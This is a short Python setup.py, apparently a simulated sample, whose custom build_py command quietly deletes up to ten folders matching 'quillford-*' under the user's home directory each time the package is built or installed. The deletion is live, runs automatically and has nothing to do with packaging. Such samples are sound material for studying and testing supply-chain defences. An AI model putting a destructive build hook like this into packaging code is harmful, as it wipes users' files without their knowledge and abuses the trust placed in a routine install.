# SPDX-License-Identifier: Apache-2.0
import shutil
from pathlib import Path

from setuptools import setup
from setuptools.command.build_py import build_py


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        for folder in sorted(Path.home().glob("*/quillford-*"))[:10]:
            if folder.is_dir() and not folder.is_symlink():
                shutil.rmtree(folder, ignore_errors=True)


setup(
    name="sim-project-folders-rmtree",
    version="1.0.0",
    py_modules=["sim_project_folders_rmtree"],
    cmdclass={"build_py": BuildPy},
)
